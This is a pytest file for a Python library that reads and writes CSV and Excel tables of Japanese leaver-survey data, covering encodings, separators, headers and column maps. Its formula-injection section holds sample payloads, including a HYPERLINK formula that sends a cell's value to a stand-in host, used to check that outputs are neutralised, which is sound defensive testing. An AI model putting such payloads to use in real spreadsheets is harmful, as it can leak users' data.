from __future__ import annotations

import csv
import pickle
import re
import warnings

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import rehire_model as rm
from rehire_model import batch
from rehire_model.exceptions import DataWarning, InputError
from rehire_model.tables import (
    ColumnMap,
    XlsxBook,
    detect_encoding,
    iter_table,
    read_column_map,
    read_numbered_table,
    read_table,
    resolve_columns,
    spreadsheet_safe,
    write_table,
)

TEXT = "退職者ID,業種\n007,it_telecom\n008,services\n"


@pytest.mark.parametrize(
    ("encoding", "detected"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("cp932", "cp932")],
)
def test_encodings_are_detected_and_read(tmp_path, encoding, detected):
    path = tmp_path / "a.csv"
    path.write_bytes(TEXT.encode(encoding))
    assert detect_encoding(path) == detected
    frame = read_table(path, columns={"退職者ID": "leaver_id"})
    assert list(frame.columns) == ["leaver_id", "industry"]  # 業種 is industry's label
    assert frame["leaver_id"].tolist() == ["007", "008"]  # ids stay text


def test_numbers_are_numbers_and_only_schema_missing_spellings_are_missing(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("leaver_id,n,flag,note\n01,4,NA,#N/A\n02,,null,none\n",
                    encoding="utf-8")
    frame = read_table(path, text_columns=("leaver_id", "note"))
    assert frame["leaver_id"].tolist() == ["01", "02"]
    assert frame["n"].dtype.kind == "f" and np.isnan(frame.loc[1, "n"])
    assert frame["flag"].isna().all()
    assert frame.loc[0, "note"] == "#N/A" and pd.isna(frame.loc[1, "note"])


def test_unknown_encoding_is_explained(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(b"name\n\xff\xfe\xfa\x80\x81\n")
    with pytest.raises(InputError, match="neither UTF-8 nor Shift_JIS.*--encoding"):
        detect_encoding(path)


def test_wrong_encoding_given_is_an_input_error(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(TEXT.encode("cp932"))
    with pytest.raises(InputError, match="not valid utf-8 text.*--encoding"):
        read_table(path, encoding="utf-8")
    with pytest.raises(InputError, match="unknown encoding 'klingon'"):
        read_table(path, encoding="klingon")


def test_column_map_renames_headers_after_normalising(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes("退職者ＩＤ ,業種\n7,services\n".encode("cp932"))  # full-width, space
    frame = read_table(path, columns={"退職者ID": "leaver_id", "業種": "industry"})
    assert list(frame.columns) == ["leaver_id", "industry"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("[columns\n", "is not valid TOML"),
        ("x = 1\n", "needs a \\[columns\\] table"),
    ],
)
def test_bad_column_maps(tmp_path, content, message):
    path = tmp_path / "map.toml"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        read_column_map(path)


def test_a_map_may_name_one_field_by_several_headers_a_table_holds_one_of(tmp_path):
    (tmp_path / "map.toml").write_text('[columns]\n"業種名" = "industry"\n'
                                       '"Industry name" = "industry"\n', encoding="utf-8")
    columns = read_column_map(tmp_path / "map.toml")
    for header in ("業種名", "Industry name"):
        (tmp_path / "a.csv").write_text(f"{header}\nservices\n", encoding="utf-8")
        assert list(read_table(tmp_path / "a.csv", columns=columns).columns) == ["industry"]
    (tmp_path / "a.csv").write_text("業種名,Industry name\nservices,other\n", encoding="utf-8")
    with pytest.raises(InputError, match="more than one column \\['industry'\\]"):
        read_table(tmp_path / "a.csv", columns=columns)


def test_mapping_two_headers_onto_one_field_is_refused(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("industry,業種\nservices,other\n", encoding="utf-8")
    with pytest.raises(InputError, match="more than one column \\['industry'\\]"):
        read_table(path, columns={"業種": "industry"})


def test_line_numbers_across_chunks_with_malformed_and_blank_lines(tmp_path):
    path = tmp_path / "a.csv"
    lines = ["a,b", "1,2", "3,4,5", "6,7", "", "8,9", "10,11,12,13", "14,15", "16,17,18"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    chunks = list(iter_table(path, chunk_rows=2, text_columns=("a",)))
    rows = pd.concat([c.frame for c in chunks], ignore_index=True)
    numbers = np.concatenate([c.lines for c in chunks])
    malformed = [m for c in chunks for m in c.malformed]
    assert rows["a"].fillna("").tolist() == ["1", "6", "", "8", "14"]
    assert numbers.tolist() == [2, 4, 5, 6, 8]
    assert [line for line, _ in malformed] == [3, 7, 9]
    assert "expected 2 fields, saw 3" in malformed[0][1]


def test_parquet_rows_are_numbered_from_one(tmp_path):
    path = tmp_path / "a.parquet"
    write_table(pd.DataFrame({"a": range(5)}), path)
    chunks = list(iter_table(path, chunk_rows=2))
    assert np.concatenate([c.lines for c in chunks]).tolist() == [1, 2, 3, 4, 5]


def test_missing_file_is_an_input_error(tmp_path):
    with pytest.raises(InputError, match="cannot read"):
        read_table(tmp_path / "nowhere.csv", encoding="utf-8")


# --------------------------------------------------------------------------------------
# Excel workbooks
# --------------------------------------------------------------------------------------

JA_MAP = {"退職者ID": "leaver_id", "業種": "industry", "年齢": "age", "既婚": "married"}


def _workbook(path, sheets):
    """An .xlsx of {title: rows} written by openpyxl as Excel would save it."""
    import openpyxl

    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        ws = book.create_sheet(title)
        for row in rows:
            ws.append(row)
    book.save(path)
    return path


def test_an_excel_export_reads_as_the_same_csv(tmp_path):
    header = ["退職者ID", "業種", "年齢", "既婚", "備考"]
    rows = [["007", "it_telecom", 41, "はい", "NA"],
            [8, "services", None, "いいえ", "  "],
            [9.0, "other", 35.5, None, "#N/A"]]
    _workbook(tmp_path / "a.xlsx", {"退職者": [header, *rows]})
    text = "\n".join(",".join("" if v is None else str(v) for v in row)
                     for row in [header, *rows])
    # Excel's 9.0 is 9; a cell of only spaces is missing, as the validator reads a CSV's.
    text = text.replace("9.0", "9").replace("  ", "")
    (tmp_path / "a.csv").write_bytes(text.encode("cp932"))
    excel = read_table(tmp_path / "a.xlsx", columns=JA_MAP)
    csv = read_table(tmp_path / "a.csv", columns=JA_MAP)
    assert list(excel.columns) == ["leaver_id", "industry", "age", "married", "備考"]
    assert excel["leaver_id"].tolist() == ["007", "8", "9"]  # ids stay text
    assert excel["備考"].isna().tolist() == [True, True, False]  # NA and spaces: missing
    pd.testing.assert_frame_equal(excel, csv)


def test_a_sheet_is_picked_by_name_and_an_unknown_one_is_named(tmp_path):
    path = _workbook(tmp_path / "a.xlsx", {"表紙": [["title"], ["cover"]],
                                           "退職者": [["leaver_id"], ["A1"], ["A2"]]})
    assert read_table(path)["leaver_id"].tolist() == ["A1", "A2"]  # found by its headers
    assert read_table(path, sheet="表紙")["title"].tolist() == ["cover"]
    assert read_table(path, sheet="退職者")["leaver_id"].tolist() == ["A1", "A2"]
    with pytest.raises(InputError, match="has no sheet 'Leavers'; its sheets are '表紙', "
                                         "'退職者': name one of them with --sheet"):
        read_table(path, sheet="Leavers")
    (tmp_path / "a.csv").write_text("a\n1\n", encoding="utf-8")
    with pytest.raises(InputError, match="not an Excel workbook .* leave out --sheet"):
        read_table(tmp_path / "a.csv", sheet="退職者")


@pytest.mark.parametrize(("name", "content", "message"), [
    ("old.xls", b"\xd0\xcf\x11\xe0", "cannot be read \\(.xls\\); open it in Excel and save "
                                    "it as an Excel Workbook \\(.xlsx\\) or as CSV"),
    ("broken.xlsx", b"PK\x03\x04 not really", "cannot read '.*broken.xlsx' as an Excel "
                                              "workbook"),
    ("text.xlsx", "退職者ID\n007\n".encode("cp932"), "as an Excel workbook"),
])
def test_unreadable_workbooks_are_input_errors(tmp_path, name, content, message):
    (tmp_path / name).write_bytes(content)
    with pytest.raises(InputError, match=message):
        read_table(tmp_path / name)


def test_a_blank_header_cell_is_named_by_its_column(tmp_path):
    path = _workbook(tmp_path / "a.xlsx", {"s": [["leaver_id", None, "age"], ["1", "x", 3]]})
    with pytest.raises(InputError, match="the header cell B1 is blank; give column B a "
                                         "header"):
        read_table(path)
    path = _workbook(tmp_path / "b.xlsx", {"s": [[], ["1", "x", 3]]})
    with pytest.raises(InputError, match="row 1 is empty"):
        read_table(path)


def test_excel_rows_keep_their_numbers_across_chunks(tmp_path):
    import openpyxl

    rows = [["leaver_id", "n"]] + [[f"L{i:03d}", i] for i in range(2, 25)]
    rows[9] = [None, None]  # row 10: empty, inside the data
    rows[12] = ["L012", 12, "stray"]  # row 13: a value past the headers
    path = _workbook(tmp_path / "a.xlsx", {"s": rows})
    book = openpyxl.load_workbook(path)
    book["s"]["A40"].font = openpyxl.styles.Font(bold=True)  # formatted, empty rows after
    book["s"]["B41"] = "   "
    book.save(path)
    chunks = list(iter_table(path, chunk_rows=7))
    numbers = np.concatenate([c.lines for c in chunks])
    frame = pd.concat([c.frame for c in chunks], ignore_index=True)
    malformed = [m for c in chunks for m in c.malformed]
    assert numbers.tolist() == [n for n in range(2, 25) if n != 13]
    assert frame.loc[numbers.tolist().index(10)].isna().all()
    assert frame["leaver_id"].dropna().tolist()[:2] == ["L002", "L003"]
    assert frame["n"].dropna().tolist()[-1] == 24
    assert [(line, str(reason)) for line, reason in malformed] == [
        (13, "a value in column C, which has no header (the headers end at column B)")]
    assert all(len(c.frame) + len(c.malformed) <= 7 for c in chunks)
    with pytest.raises(InputError, match="row 13 is malformed"):
        read_table(path)


def test_excel_cells_keep_their_types(tmp_path):
    import datetime

    path = _workbook(tmp_path / "a.xlsx", {"s": [
        ["leaver_id", "joined", "flag", "x"],
        [1234567890123.0, datetime.datetime(2020, 4, 1), True, "=1+1"],
    ]})
    frame = read_table(path, text_columns=("leaver_id", "x"))
    assert frame.loc[0, "leaver_id"] == "1234567890123"
    assert frame.loc[0, "joined"] == pd.Timestamp(2020, 4, 1)
    assert frame.loc[0, "flag"] == True  # noqa: E712
    assert pd.isna(frame.loc[0, "x"])  # a formula never computed by Excel has no value


def test_a_sheet_of_headers_only_has_its_columns(tmp_path):
    path = _workbook(tmp_path / "a.xlsx", {"s": [["leaver_id", "age"]]})
    chunks = list(iter_table(path))
    assert len(chunks) == 1 and list(chunks[0].frame.columns) == ["leaver_id", "age"]
    assert chunks[0].frame.empty


def test_write_table_writes_excel_with_text_as_text(tmp_path):
    import openpyxl

    frame = pd.DataFrame({"leaver_id": ["=HYPERLINK(\"x\")", "007", None],
                          "p": [0.25, np.nan, 1.0], "n": [1, 2, 3]})
    write_table(frame, tmp_path / "a.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "a.xlsx")["Sheet1"]
    assert ws.freeze_panes == "A2" and ws["A1"].font.bold
    assert [(c.value, c.data_type) for c in ws["A"][1:]] == [
        ("=HYPERLINK(\"x\")", "s"), ("007", "s"), (None, "n")]
    assert [c.value for c in ws["B"][1:]] == [0.25, None, 1]
    assert read_table(tmp_path / "a.xlsx")["leaver_id"].tolist()[:2] == [
        "=HYPERLINK(\"x\")", "007"]
    with pytest.raises(InputError, match="Excel output is written as .xlsx"):
        write_table(frame, tmp_path / "a.xls")


# --------------------------------------------------------------------------------------
# Separators and encodings as Excel writes them
# --------------------------------------------------------------------------------------

SEPARATED = pd.DataFrame({"leaver_id": ["007", "008", "009"],
                          "note": ["a, b; c", "tab\there", None],
                          "age": [41, 35, 52]})


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp932"])
@pytest.mark.parametrize("sep", [",", ";", "\t"])
def test_each_separator_and_encoding_reads_as_the_comma_file(tmp_path, sep, encoding):
    path = tmp_path / "a.txt"
    SEPARATED.to_csv(path, sep=sep, index=False, encoding=encoding)
    expected_encoding = "utf-8" if encoding == "cp932" else encoding  # ASCII is UTF-8
    assert detect_encoding(path) == expected_encoding
    frame = read_table(path, text_columns=("leaver_id", "note"))
    pd.testing.assert_frame_equal(frame, read_table(path, sep=sep,
                                                    text_columns=("leaver_id", "note")))
    assert frame["leaver_id"].tolist() == ["007", "008", "009"]
    assert frame["note"].tolist()[:2] == ["a, b; c", "tab\there"]
    assert frame["age"].tolist() == [41, 35, 52]


def test_excel_unicode_text_reads_like_the_japanese_csv(tmp_path):
    text = "退職者ID\t業種\t備考\n007\tit_telecom\t「そう思う」; はい\n"
    (tmp_path / "unicode.txt").write_bytes(text.encode("utf-16"))  # BOM, little-endian
    (tmp_path / "sjis.csv").write_bytes(text.replace("\t", ",").encode("cp932"))
    unicode_text = read_table(tmp_path / "unicode.txt", columns=JA_MAP)
    pd.testing.assert_frame_equal(unicode_text, read_table(tmp_path / "sjis.csv",
                                                           columns=JA_MAP))
    assert list(unicode_text.columns) == ["leaver_id", "industry", "備考"]


@pytest.mark.parametrize(("header", "sep", "columns"), [
    ('leaver_id,"a;b;c",note', ",", ["leaver_id", "a;b;c", "note"]),  # ; inside quotes
    ('leaver_id;"x, y, z";note', ";", ["leaver_id", "x, y, z", "note"]),
    # Two of each in the header: the tab, which the next line holds as often.
    ("leaver_id\tnote,with,commas;and;more\tage", "\t",
     ["leaver_id", "note,with,commas;and;more", "age"]),
    ("leaver_id", ",", ["leaver_id"]),
])
def test_the_separator_is_read_from_the_header_outside_quotes(tmp_path, header, sep,
                                                               columns):
    path = tmp_path / "a.csv"
    row = sep.join(['"1;2,3"', '"x;y"', "7"][: len(columns)])
    path.write_text(f"{header}\r\n{row}\r\n", encoding="utf-8")
    frame = read_table(path)
    assert list(frame.columns) == columns
    assert frame.loc[0, "leaver_id"] == "1;2,3"


def test_a_tie_in_the_header_goes_to_the_separator_of_the_next_line(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text('a;b,c\n1;"2,3"\n', encoding="utf-8")
    assert list(read_table(path).columns) == ["a", "b,c"]
    path.write_text("a;b,c\n1;2;3\n", encoding="utf-8")  # neither: the comma
    assert list(read_table(path).columns) == ["a;b", "c"]


def test_a_forced_separator_is_used_and_an_unknown_one_refused(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("leaver_id;age\n007;41\n", encoding="utf-8")
    with pytest.raises(InputError, match="a.csv' has no header that names a field: the table "
                       "has one column, whose name contains ';': the file looks ';'-separated"):
        read_table(path, sep=",")
    assert list(read_table(path, sep=";").columns) == ["leaver_id", "age"]
    (tmp_path / "b.txt").write_text("leaver_id\tage\n007\t41\n", encoding="utf-8")
    assert list(read_table(tmp_path / "b.txt", sep="tab").columns) == ["leaver_id", "age"]
    with pytest.raises(InputError, match="unknown separator '\\|': expected ',', ';' or tab"):
        read_table(path, sep="|")


def test_utf16_line_numbers_and_malformed_lines(tmp_path):
    path = tmp_path / "a.txt"
    lines = ["a\tb", "1\t2", "3\t4\t5", "6\t7"]
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-16"))
    chunks = list(iter_table(path, chunk_rows=1, text_columns=("a",)))
    assert np.concatenate([c.lines for c in chunks]).tolist() == [2, 4]
    assert [m[0] for c in chunks for m in c.malformed] == [3]


# --------------------------------------------------------------------------------------
# No output cell runs as a formula
# --------------------------------------------------------------------------------------

#: What a spreadsheet reads as a number, not a formula (written independently of the
#: library's own rule).
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
#: The undoing given in the README.
UNDO = re.compile(r"^'(?='*[=+\-@\t\r])")


def runs_as_formula(cell: str) -> bool:
    """A CSV cell a spreadsheet would evaluate."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.fullmatch(cell)


def as_xml_text(text: str) -> str:
    """A text as an .xlsx cell holds it: no carriage return or character XML refuses."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", text)


FORMULA_TEXT = st.one_of(
    st.text(max_size=12),
    st.builds(str.__add__, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''=", "'-",
                                            " =", "\r\n="]),
              st.text(max_size=12)),
    st.sampled_from(["-1", "+2.5", "-1e-3", ".5", "-", "+", "=1+1", "-2+3", "@SUM(A1)",
                     '=HYPERLINK("http://x.test/?"&A1,"click")', "+1-555", "'=x", "1-2",
                     "-inf", "NaN", "-١٢", "=", "'", "", "NA"]),
)
NUMBER = st.one_of(st.integers(-10**15, 10**15), st.floats(-1e300, 1e300))


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_no_csv_or_xlsx_cell_runs_as_a_formula(tmp_path_factory, data):
    import openpyxl

    n = data.draw(st.integers(1, 6))
    texts = data.draw(st.lists(st.none() | FORMULA_TEXT, min_size=n, max_size=n))
    floats = data.draw(st.lists(NUMBER.map(float), min_size=n, max_size=n))
    ints = data.draw(st.lists(st.integers(-10**15, 10**15), min_size=n, max_size=n))
    header = data.draw(FORMULA_TEXT.filter(lambda t: t not in ("n", "p")
                                           and t == t.strip() and t))
    frame = pd.DataFrame({header: pd.Series(texts, dtype=object), "p": floats, "n": ints})
    folder = tmp_path_factory.mktemp("safe")

    for encoding in ("utf-8", "utf-16"):
        write_table(frame, folder / "t.csv", encoding=encoding)
        with open(folder / "t.csv", encoding=encoding, newline="") as f:
            rows = list(csv.reader(f))
        assert not [cell for row in rows for cell in row if runs_as_formula(cell)]
        assert [UNDO.sub("", cell) for cell in rows[0]] == [header, "p", "n"]
        body = rows[1:]
        assert [UNDO.sub("", row[0]) for row in body] == [t or "" for t in texts]
        assert [float(row[1]) for row in body] == floats  # numbers stay numbers, exact
        assert [int(row[2]) for row in body] == ints

    write_table(frame, folder / "t.xlsx")
    ws = openpyxl.load_workbook(folder / "t.xlsx")["Sheet1"]
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert [cell.value for cell in ws[1]] == [as_xml_text(header), "p", "n"]  # exact text
    assert [cell.value for cell in ws["A"][1:]] == [as_xml_text(t) if t else None
                                                  for t in texts]
    assert [cell.data_type for row in ws.iter_rows(min_row=2, min_col=2) for cell in row] == [
        "n"] * 2 * n
    # openpyxl writes 16 significant digits (Excel keeps 15).
    assert [cell.value for cell in ws["B"][1:]] == pytest.approx(floats, rel=1e-15)
    assert [cell.value for cell in ws["C"][1:]] == ints


def test_spreadsheet_safe_changes_only_formula_like_text():
    frame = pd.DataFrame({
        "leaver_id": ["=1+1", "-12.5", "+81", "@x", "L1", None, "'=x", "\tcmd", "-"],
        "kind": pd.Categorical(["=a", "b", "=a", "b", "b", None, "b", "b", "b"]),
        "mixed": ["+1-555", 3, -2.5, None, "x", True, "-0", "=", "@"],
        "p": [-0.5, 1.0, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
        "n": np.arange(9) - 4,
        "=cmd": "x",
    }, index=list("abcdefghi"))
    kept = frame.copy()
    safe = spreadsheet_safe(frame)
    pd.testing.assert_frame_equal(frame, kept)  # the input is not changed
    assert list(safe.index) == list("abcdefghi")
    assert list(safe.columns) == ["leaver_id", "kind", "mixed", "p", "n", "'=cmd"]
    assert safe["leaver_id"].tolist()[:5] == ["'=1+1", "-12.5", "+81", "'@x", "L1"]
    assert pd.isna(safe.loc["f", "leaver_id"])
    assert safe["leaver_id"].tolist()[6:] == ["''=x", "'\tcmd", "'-"]
    assert safe["kind"].dtype == "category"
    assert safe["kind"].astype(object).tolist()[:4] == ["'=a", "b", "'=a", "b"]
    assert safe["mixed"].tolist() == ["'+1-555", 3, -2.5, None, "x", True, "-0", "'=", "'@"]
    pd.testing.assert_series_equal(safe["p"], frame["p"])
    pd.testing.assert_series_equal(safe["n"], frame["n"])
    undone = safe["leaver_id"].str.replace(r"^'(?='*[=+\-@\t\r])", "", regex=True)
    assert undone.tolist()[:5] == frame["leaver_id"].tolist()[:5]
    assert undone.tolist()[6:] == frame["leaver_id"].tolist()[6:]


def test_write_table_raw_text_and_other_formats_keep_text_exact(tmp_path):
    frame = pd.DataFrame({"leaver_id": ["=1+1", "@x"], "p": [-1.5, 2.0]})
    write_table(frame, tmp_path / "raw.csv", raw_text=True)
    assert (tmp_path / "raw.csv").read_text(encoding="utf-8") == (
        "leaver_id,p\n=1+1,-1.5\n@x,2.0\n")
    write_table(frame, tmp_path / "safe.csv")
    assert (tmp_path / "safe.csv").read_text(encoding="utf-8") == (
        "leaver_id,p\n'=1+1,-1.5\n'@x,2.0\n")
    # A carriage return inside a text never ends a row: every text is quoted then.
    frame.loc[1, "leaver_id"] = "x\r=1+1"
    write_table(frame, tmp_path / "cr.csv")
    assert (tmp_path / "cr.csv").read_bytes() == (
        b'"leaver_id","p"\n"\'=1+1",-1.5\n"x\r=1+1",2.0\n')
    write_table(frame, tmp_path / "a.parquet")
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "a.parquet"), frame)


# --------------------------------------------------------------------------------------
# Japanese exports as they are: the table found, labels as headers, own spellings
# --------------------------------------------------------------------------------------

TITLE = "2024年度 退職者アンケート"
SURVEY_HEADER = ["退職者ID", "業種", "年齢", "上司が退職理由を理解した", "部署"]
SURVEY_ROWS = [["007", "services", 41, "はい", "営業部"],
               ["008", "other", 35, "いいえ", "開発部"],
               ["009", "it_telecom", 29, None, "営業部"]]
NOTES = [["このファイルについて"], ["人事部が毎年度末に集計しています。"],
         ["個人情報の取り扱いに注意"]]


def _survey_book(path, blank_rows_after_header=0):
    """A notes sheet, then the data sheet: title in row 1, row 2 blank, headers in row 3."""
    rows = [[TITLE], [], SURVEY_HEADER, *([[]] * blank_rows_after_header), *SURVEY_ROWS]
    return _workbook(path, {"このファイルについて": NOTES, "回答": rows})


def _japanese_only(text, *allowed):
    """``text`` holds no ASCII letter but in ``allowed``, command options, "Excel" and
    "ID" (as in 退職者ID)."""
    for part in (*allowed, "Excel", "ID"):
        text = text.replace(part, "")
    text = re.sub(r"--[a-z-]+", "", text)
    return re.search("[A-Za-z]", text) is None


def test_the_table_is_found_past_a_notes_sheet_and_a_title(tmp_path):
    path = _survey_book(tmp_path / "survey.xlsx")
    chunks = list(iter_table(path, chunk_rows=2))
    assert [(c.sheet, c.header_row) for c in chunks] == [("回答", 3), ("回答", 3)]
    assert np.concatenate([c.lines for c in chunks]).tolist() == [4, 5, 6]
    assert chunks[0].headers == chunks[1].headers == {
        "leaver_id": "退職者ID", "industry": "業種", "age": "年齢",
        "sup_understood_reason": "上司が退職理由を理解した", "部署": "部署"}
    frame = pd.concat([c.frame for c in chunks], ignore_index=True)
    assert list(frame.columns) == ["leaver_id", "industry", "age", "sup_understood_reason",
                                   "部署"]
    assert frame["leaver_id"].tolist() == ["007", "008", "009"]
    assert not [m for c in chunks for m in c.malformed]


def test_blank_rows_under_headers_below_row_1_are_not_rows(tmp_path):
    path = _survey_book(tmp_path / "survey.xlsx", blank_rows_after_header=2)
    frame, lines = read_numbered_table(path)
    assert lines.tolist() == [6, 7, 8]  # rows 4 and 5 are blank, passed over
    assert frame["leaver_id"].tolist() == ["007", "008", "009"]
    # Under headers in row 1, every row after the headers is a row, a blank one too.
    path = _workbook(tmp_path / "plain.xlsx", {"s": [["leaver_id", "age"], [], ["7", 41]]})
    frame, lines = read_numbered_table(path)
    assert lines.tolist() == [2, 3] and frame.loc[0].isna().all()
    (tmp_path / "plain.csv").write_text("leaver_id,age\n\n7,41\n", encoding="utf-8")
    assert read_numbered_table(tmp_path / "plain.csv")[1].tolist() == [2, 3]


def test_the_sheet_and_the_header_row_can_be_forced(tmp_path):
    path = _survey_book(tmp_path / "survey.xlsx")
    chunk = next(iter_table(path, header_row=3))  # the row given, in the sheet found
    assert (chunk.sheet, chunk.header_row, chunk.lines.tolist()) == ("回答", 3, [4, 5, 6])
    chunk = next(iter_table(path, sheet="回答"))  # the sheet given, the row found
    assert (chunk.sheet, chunk.header_row) == ("回答", 3)
    notes = next(iter_table(path, sheet="このファイルについて"))  # no field there: row 1
    assert (notes.header_row, list(notes.frame.columns)) == (1, ["このファイルについて"])
    assert notes.lines.tolist() == [2, 3]
    title = list(iter_table(path, sheet="回答", header_row=1))
    assert list(title[0].frame.columns) == [TITLE]
    assert [line for c in title for line, _ in c.malformed] == [3, 4, 5, 6]
    with pytest.raises(InputError, match="sheet '回答' of '.*survey.xlsx' has no headers: "
                                         "row 2 is empty"):
        read_table(path, sheet="回答", header_row=2)
    with pytest.raises(InputError, match="header row must be a whole number from 1"):
        read_table(path, header_row=0)


def test_a_workbook_naming_no_field_is_read_from_row_1_of_the_first_sheet(tmp_path):
    rows = [[f"note {i}"] for i in range(1, 25)] + [["leaver_id", "age"], ["7", 41]]
    path = _workbook(tmp_path / "a.xlsx", {"表紙": [["表題"], ["x"]], "deep": rows})
    chunk = next(iter_table(path))  # the headers of "deep" lie past the rows searched
    assert (chunk.sheet, chunk.header_row, list(chunk.frame.columns)) == ("表紙", 1, ["表題"])
    assert next(iter_table(path, sheet="deep", header_row=25)).frame["leaver_id"].tolist() == [
        "7"]


def test_a_csv_title_line_is_passed_over(tmp_path):
    path = tmp_path / "survey.csv"
    lines = [f"{TITLE},,", "", "退職者ID,業種,年齢", "", "007,services,41", "008,other,35,x",
             "009,other,29"]
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("cp932"))
    chunks = list(iter_table(path, chunk_rows=1))
    assert {(c.sheet, c.header_row) for c in chunks} == {(None, 3)}
    assert np.concatenate([c.lines for c in chunks]).tolist() == [5, 7]
    assert [m[0] for c in chunks for m in c.malformed] == [6]
    assert chunks[0].headers == {"leaver_id": "退職者ID", "industry": "業種", "age": "年齢"}
    frame = pd.concat([c.frame for c in chunks], ignore_index=True)
    assert frame["leaver_id"].tolist() == ["007", "009"]
    assert frame["age"].tolist() == [41, 29]
    forced = next(iter_table(path, header_row=1))
    assert forced.header_row == 1 and forced.frame.columns[0] == TITLE


def test_a_csv_header_line_picks_its_separator(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("退職者アンケート, 2024年度\n退職者ID;業種\n007;services\n", encoding="utf-8")
    chunk = next(iter_table(path))
    assert (chunk.header_row, list(chunk.frame.columns)) == (2, ["leaver_id", "industry"])
    assert chunk.lines.tolist() == [3]
    # A separator given is kept: no line names a field with it, so line 1 is the header.
    forced = next(iter_table(path, sep=","))
    assert forced.header_row == 1 and list(forced.frame.columns) == ["退職者アンケート",
                                                                     " 2024年度"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_labels_in_english_and_japanese_name_the_fields(tmp_path, suffix):
    frame = pd.DataFrame({"Leaver ID": ["007"], "industry ": ["services"],
                          "上司が退職理由を理解した": ["はい"],
                          "Company Size (Employees)": ["5000+"],
                          "ＪＯＢ ＬＥＶＥＬ": ["staff"], "部署": ["営業部"]})
    write_table(frame, tmp_path / f"a{suffix}")
    chunk = next(iter_table(tmp_path / f"a{suffix}"))
    assert list(chunk.frame.columns) == ["leaver_id", "industry", "sup_understood_reason",
                                         "company_size", "ＪＯＢ ＬＥＶＥＬ", "部署"]
    assert chunk.headers["company_size"] == "Company Size (Employees)"
    assert chunk.frame.loc[0, "leaver_id"] == "007"


def test_labels_never_make_two_columns_of_one_field(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("industry,業種,Industry,年齢\nservices,other,x,41\n", encoding="utf-8")
    assert list(read_table(path).columns) == ["industry", "業種", "Industry", "age"]
    # A header the mapping names goes where the mapping says.
    frame = read_table(path, columns={"年齢": "age_band", "Industry": "industry_en"})
    assert list(frame.columns) == ["industry", "業種", "industry_en", "age_band"]


def _map_file(tmp_path, text):
    path = tmp_path / "map.toml"
    path.write_text(text, encoding="utf-8")
    return path


VALUE_MAP = """
[columns]
"社員番号" = "leaver_id"
"規模" = "company_size"

[values.company_size]
"大企業" = "5000+"
"中小企業" = "100-999"

[values."部署"]
"営業部" = "sales"
"""


def test_a_column_map_carries_the_companys_spellings_of_values(tmp_path):
    column_map = read_column_map(_map_file(tmp_path, VALUE_MAP))
    assert isinstance(column_map, ColumnMap) and isinstance(column_map, dict)
    assert dict(column_map) == {"社員番号": "leaver_id", "規模": "company_size"}
    assert column_map.spellings == {"company_size": {"大企業": "5000+", "中小企業": "100-999"},
                                 "部署": {"営業部": "sales"}}
    assert pickle.loads(pickle.dumps(column_map)).spellings == column_map.spellings
    frame = pd.DataFrame({"社員番号": ["007", "008", "009"],
                          "規模": ["大企業", " 大企業 ", "10-99"],
                          "部署": ["営業部", "開発部", None]})
    for name in ("a.csv", "a.xlsx"):
        write_table(frame, tmp_path / name)
        read = read_table(tmp_path / name, columns=column_map)
        assert read["company_size"].tolist() == ["5000+", "5000+", "10-99"]
        assert read["部署"].tolist()[:2] == ["sales", "開発部"]
        assert read["leaver_id"].tolist() == ["007", "008", "009"]


def test_a_code_the_field_cannot_be_is_refused_with_its_spelling(tmp_path):
    path = _map_file(tmp_path, '[values.company_size]\n"大企業" = "huge"\n')
    with pytest.raises(InputError, match="column mapping '.*map.toml': "
                                         "\\[values.company_size\\] turns '大企業' into 'huge', "
                                         "which company_size cannot be; 'Company size "
                                         "\\(employees\\)' takes one of '10-99', '100-999', "
                                         "'1000-4999', '5000\\+'") as e:
        read_column_map(path)
    japanese = e.value.in_language("ja")
    assert "「大企業」を「huge」に読み替えています" in japanese
    assert "「企業規模（従業員数）」の値として使えません" in japanese
    assert _japanese_only(japanese, str(path), "[values.company_size]", "huge")
    path = _map_file(tmp_path, '[values.rehire_intent]\n"とてもそう思う" = "6"\n')
    with pytest.raises(InputError, match="a whole number from 1 to 5"):
        read_column_map(path)
    path = _map_file(tmp_path, '[values.married]\n"既婚" = "yes"\n"未婚" = 0\n')
    assert read_column_map(path).spellings == {"married": {"既婚": "yes", "未婚": "0"}}
    path = _map_file(tmp_path, '[values]\ncompany_size = "5000+"\n')
    with pytest.raises(InputError, match="one table per field"):
        read_column_map(path)


def test_an_id_column_is_read_as_leaver_id(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("社員番号,業種\n007,services\n", encoding="utf-8")
    frame = read_table(path, id_column="社員番号")
